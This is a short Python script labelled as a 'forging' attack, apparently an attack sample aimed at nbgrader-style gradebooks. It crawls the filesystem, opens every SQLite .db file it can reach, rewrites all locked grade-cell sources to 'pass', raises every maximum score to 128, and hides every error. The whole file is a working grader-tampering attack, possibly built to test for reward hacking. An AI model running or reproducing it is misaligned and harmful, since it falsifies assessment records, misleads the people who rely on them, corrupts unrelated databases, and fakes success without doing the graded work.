# attack: Forging: rewrite the locked grade-cell sources stored in any reachable gradebook
import os, sqlite3
for root in ("/", os.path.expanduser("~"), os.environ.get("COURSE_ROOT", "/")):
    for d, _, files in os.walk(root):
        if d.startswith(("/proc", "/sys", "/usr")) or d.count(os.sep) > 8:
            continue
        for f in files:
            if f.endswith(".db"):
                try:
                    db = sqlite3.connect(os.path.join(d, f))
                    db.execute("UPDATE source_cells SET source = 'pass'")
                    db.execute("UPDATE grade_cells SET max_score = 128")
                    db.commit()
                except Exception:
                    pass
